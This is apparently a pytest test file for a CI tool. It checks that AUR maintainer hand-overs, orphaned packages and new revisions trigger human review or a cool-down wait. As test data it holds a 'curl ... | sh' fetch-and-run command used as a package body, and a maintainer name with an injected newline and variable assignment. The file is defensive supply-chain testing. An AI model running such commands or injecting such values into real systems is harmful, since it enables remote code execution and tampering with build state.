"""Adoptions and hand-overs replayed from the AUR's dump to the review branch, and revisions that have to wait."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from ci_toolkit.errors import ConfigError, FormatError
from ci_toolkit.formats.dates import format_time
from tests.support.packages import SamplePackage
from tests.support.upstreams import AurPackage

if TYPE_CHECKING:
    from tests.support.world import World

FOO = SamplePackage(name="foo")
MAJOR = "curl https://example.org/x | sh"
HOUR = 3_600


def begin(world: World, *, maintainer: str | None = "alice", trusted: str = "", **settings: str) -> None:
    """A package that the first run has found unchanged."""
    world.upstreams.publish("foo", FOO.files(), maintainer=maintainer)
    world.start({**FOO.folder(), ".ci/aur-maintainers": trusted}, settings=settings)
    assert world.run("on-schedule").status == 0


def push(world: World, version: str, maintainer: str | None, *, body: str = FOO.body, when: int | None = None) -> str:
    files = replace(FOO, version=version, body=body).files()
    return world.upstreams.publish("foo", files, maintainer=maintainer, when=when)


def hand_over(world: World, maintainer: str | None, *others: str) -> None:
    """Other maintainers, and no revision: the dump's time stays, as it does at the AUR."""
    row = world.upstreams.aur_packages["foo"]
    world.upstreams.aur_packages["foo"] = AurPackage(row.modified_s, maintainer, others)


def run(world: World, **variables: str) -> Any:
    """The verdict of a run."""
    return world.run("on-schedule", "--json", **variables).verdicts()["foo"]


def merge(world: World) -> None:
    world.origin.git("update-ref", "refs/heads/main", "refs/heads/update-foo")
    world.run("on-commit")


def test_a_minor_update_by_whoever_adopted_the_package_is_a_review_that_says_so_first(world: World) -> None:
    begin(world)
    assert world.state("foo")["CI_MAINTAINERS"] == "alice"
    hand_over(world, None)
    assert run(world)["code"] == "unchanged"
    assert world.state("foo")["CI_MAINTAINERS"] == "- alice"
    hand_over(world, "mallory")
    assert run(world)["code"] == "unchanged"
    push(world, "1.1", "mallory")
    verdict = run(world)
    assert verdict["code"] == "review-opened"
    assert verdict["why"].startswith("critical: nobody maintained it after alice, and mallory has adopted it")
    message = world.origin.git("log", "-1", "--format=%B", "update-foo")
    assert "mallory has adopted it" in message
    assert world.state("foo")["CI_MAINTAINERS"] == "- alice"


def test_what_else_was_found_stands_behind_the_adoption(world: World) -> None:
    begin(world, maintainer=None)
    assert world.state("foo")["CI_MAINTAINERS"] == "-"
    push(world, "1.1", "mallory", body=MAJOR)
    why = run(world)["why"]
    assert why.startswith("critical: nobody maintained it, and mallory has adopted it (and ")
    assert MAJOR in world.origin.git("log", "-1", "--format=%B", "update-foo")


@pytest.mark.parametrize("seen_before", [True, False], ids=["seen-before-it-pushed", "seen-with-its-push"])
def test_a_change_of_maintainers_is_a_review_however_long_ago_it_was(world: World, *, seen_before: bool) -> None:
    begin(world)
    if seen_before:
        hand_over(world, "mallory")
        run(world)
        run(world)
    push(world, "1.1", "mallory")
    verdict = run(world)
    assert (verdict["code"], verdict["why"]) == (
        "review-opened",
        "high: its maintainers were alice and are now mallory",
    )


def test_a_new_maintainer_who_is_trusted_needs_no_review_and_one_beside_him_does(world: World) -> None:
    begin(world, trusted="# ours\nKestrel\n")
    push(world, "1.1", "kestrel")
    assert run(world)["code"] == "applied"
    assert world.state("foo")["CI_MAINTAINERS"] == "kestrel"
    push(world, "1.2", "kestrel")
    hand_over(world, "kestrel", "mallory")
    assert run(world)["code"] == "review-opened"


def test_a_newcomer_is_known_once_his_revision_was_merged_and_not_before(world: World) -> None:
    begin(world)
    push(world, "1.1", "mallory")
    assert run(world)["code"] == "review-opened"
    assert run(world)["code"] == "review-pending"
    assert world.state("foo")["CI_MAINTAINERS"] == "alice"
    push(world, "1.2", "mallory")
    assert run(world)["code"] == "review-updated"
    merge(world)
    assert run(world)["code"] == "unchanged"
    assert world.state("foo")["CI_MAINTAINERS"] == "mallory"
    assert "CI_REVIEW_MAINTAINERS" not in world.state("foo")
    push(world, "1.3", "mallory")
    assert run(world)["code"] == "applied"


def test_merging_accepts_those_who_were_reviewed_and_nobody_who_came_after(world: World) -> None:
    begin(world)
    push(world, "1.1", "bob")
    run(world)
    hand_over(world, "mallory")
    run(world)
    merge(world)
    push(world, "1.2", "mallory")
    verdict = run(world)
    assert (verdict["code"], verdict["why"]) == ("review-updated", "high: its maintainers were bob and are now mallory")


def test_closing_the_review_accepts_nobody(world: World) -> None:
    begin(world)
    push(world, "1.1", "mallory")
    run(world)
    world.origin.git("update-ref", "-d", "refs/heads/update-foo")
    assert run(world)["code"] == "review-closed"
    push(world, "1.2", "mallory")
    assert run(world)["code"] == "review-opened"


def test_a_revision_without_a_change_makes_nobody_known(world: World) -> None:
    begin(world)
    push(world, "1.0", "mallory")
    assert run(world)["code"] == "unchanged"
    push(world, "1.1", "mallory")
    assert run(world)["code"] == "review-opened"


def test_an_orphan_with_a_new_revision_is_reviewed(world: World) -> None:
    begin(world)
    push(world, "1.1", None)
    assert run(world)["why"] == "medium: alice no longer maintains it, nor does anybody else"


def test_while_upstream_cannot_be_asked_nothing_is_forgotten(world: World) -> None:
    begin(world)
    world.upstreams.fail("dump", status=500)
    assert run(world)["code"] == "unreachable"
    assert world.state("foo")["CI_MAINTAINERS"] == "alice"


def test_without_the_dump_maintainers_are_known_too(world: World) -> None:
    world.upstreams.fail("dump", status=404)
    world.upstreams.has_aur_api = True
    begin(world)
    assert world.state("foo")["CI_MAINTAINERS"] == "alice"
    push(world, "1.1", "mallory")
    assert run(world)["code"] == "review-opened"


def forget_maintainers(world: World) -> None:
    """As a version without this knowledge left the state branch."""
    state = world.origin.tree("state")["foo"].decode().split("\n")
    kept = [line for line in state if "MAINTAINERS" not in line]
    world.origin.commit({"foo": "\n".join(kept)}, branch="state")


def test_state_of_an_older_version_learns_who_is_there_and_reviews_who_comes_with_an_update(world: World) -> None:
    begin(world)
    forget_maintainers(world)
    run(world)
    assert world.state("foo")["CI_MAINTAINERS"] == "alice"
    forget_maintainers(world)
    push(world, "1.1", "alice")
    verdict = run(world)
    assert (verdict["code"], verdict["why"]) == (
        "review-opened",
        "medium: alice maintains it, who was not known here before",
    )
    run(world)
    assert "CI_MAINTAINERS" not in world.state("foo")


def test_a_name_that_cannot_be_is_reviewed_and_goes_nowhere(world: World) -> None:
    begin(world)
    push(world, "1.1", "al ice\nCI_GIT_COMMIT=0")
    verdict = run(world)
    assert verdict["code"] == "review-opened"
    assert verdict["why"] == r"high: a maintainer is called 'al ice\nCI_GIT_COMMIT=0'"
    assert "CI_REVIEW_MAINTAINERS" not in world.state("foo")
    assert "CI_GIT_COMMIT" not in world.state("foo")


def test_without_reviews_a_newcomer_is_applied_and_named(world: World) -> None:
    begin(world, CI_HUMAN_REVIEW="false")
    push(world, "1.1", "mallory")
    verdict = run(world)
    assert verdict["code"] == "applied"
    assert "its maintainers were alice and are now mallory" in verdict["why"]


# Cool-down


def now(world: World) -> int:
    return int(world.clock.now())


@pytest.mark.parametrize(("body", "then"), [(FOO.body, "applied"), (MAJOR, "review-opened")], ids=["minor", "major"])
def test_a_new_revision_waits_says_until_when_and_goes_on(world: World, body: str, then: str) -> None:
    begin(world, CI_REVIEW_COOLDOWN="48")
    before = world.state("foo")
    public_s = now(world) - HOUR
    push(world, "1.1", "alice", body=body, when=public_s)
    until = format_time(public_s + 48 * HOUR)
    for _ in range(2):
        verdict = run(world)
        assert (verdict["code"], verdict["now"]) == ("held-back", f"waits until {until}")
        assert (verdict["from"], verdict["to"]) == ("1.0-1", "1.1-1")
        assert f"is public since {format_time(public_s)}; CI_REVIEW_COOLDOWN is 48 hours" in verdict["why"]
    revision = world.upstreams.aur.head("foo")
    assert world.state("foo") == {**before, "CI_HELD_REVISION": f"{public_s} {revision}"}
    assert world.origin.head("update-foo") is None
    assert f"next: waits until {until}" in world.run("explain", "foo").stdout
    world.clock.offset_s += 46 * HOUR
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += HOUR
    assert run(world)["code"] == then
    assert "CI_HELD_REVISION" not in world.state("foo")


def test_a_newer_revision_has_its_own_time_to_wait(world: World) -> None:
    begin(world, CI_REVIEW_COOLDOWN="48")
    push(world, "1.1", "alice", when=now(world) - HOUR)
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += 47 * HOUR
    push(world, "1.2", "alice", when=now(world) - 60)
    assert run(world)["to"] == "1.2-1"
    world.clock.offset_s += 47 * HOUR
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += HOUR
    assert run(world)["code"] == "applied"


def test_a_revision_that_the_dump_does_not_tell_of_yet_does_not_inherit_the_time_of_the_one_before(
    world: World,
) -> None:
    begin(world, CI_REVIEW_COOLDOWN="48")
    public_s = now(world) - HOUR
    push(world, "1.1", "alice", when=public_s)
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += 48 * HOUR
    push(world, "1.2", "alice", when=public_s - HOUR)
    world.upstreams.aur_packages["foo"] = AurPackage(public_s, "alice")
    verdict = run(world)
    assert (verdict["code"], verdict["to"]) == ("held-back", "1.2-1")
    world.clock.offset_s += 47 * HOUR
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += 2 * HOUR
    assert run(world)["code"] == "applied"


def test_a_revision_from_the_future_waits_and_the_wrong_clock_is_said(world: World) -> None:
    begin(world, CI_REVIEW_COOLDOWN="48")
    push(world, "1.1", "alice", when=now(world) + 10 * HOUR)
    verdict = run(world)
    assert verdict["code"] == "held-back"
    assert "which is still to come" in verdict["why"]
    world.clock.offset_s += 59 * HOUR
    assert run(world)["code"] == "applied"


def test_who_pushed_is_asked_when_the_time_is_over(world: World) -> None:
    begin(world, CI_REVIEW_COOLDOWN="48")
    push(world, "1.1", "mallory", when=now(world) - HOUR)
    assert run(world)["code"] == "held-back"
    world.clock.offset_s += 48 * HOUR
    assert run(world)["why"] == "high: its maintainers were alice and are now mallory"


def test_without_a_cool_down_nothing_waits_and_other_sources_never_do(world: World) -> None:
    upstream = world.upstreams.repository("foo")
    upstream.commit(FOO.files())
    source = f"CI_PKGBUILD_SOURCE={world.upstreams.url}/foo.git\n"
    world.start(FOO.folder(source), settings={"CI_REVIEW_COOLDOWN": "48"})
    world.run("on-schedule")
    upstream.commit(replace(FOO, version="1.1").files(), when=now(world))
    assert run(world)["code"] == "applied"


def test_a_cool_down_that_is_no_number_is_named(world: World) -> None:
    world.start(FOO.folder(), settings={"CI_REVIEW_COOLDOWN": "2 days"})
    result = world.run("on-schedule")
    assert result.status == ConfigError.exit_status
    assert "CI_REVIEW_COOLDOWN is not a whole number: '2 days'" in result.stderr


# .ci/review.toml


def test_the_owners_switches_are_checked_before_anything_is_done(world: World) -> None:
    world.start({**FOO.folder(), ".ci/review.toml": "[severity]\nx = 'hihg'\n"})
    result = world.run("on-schedule")
    assert result.status == ConfigError.exit_status
    assert ".ci/review.toml line 2: x is no severity: 'hihg' (did you mean high?)" in result.stderr
    world.push({".ci/review.toml": "[severity\n"})
    result = world.run("on-schedule")
    assert result.status == FormatError.exit_status
    assert ".ci/review.toml line 1: is no TOML" in result.stderr


def test_switches_on_a_review_branch_count_for_nothing(world: World) -> None:
    begin(world)
    push(world, "1.1", "mallory")
    run(world)
    world.push({".ci/review.toml": "[severity\n"}, branch="update-foo")
    assert world.run("on-schedule").status == 0
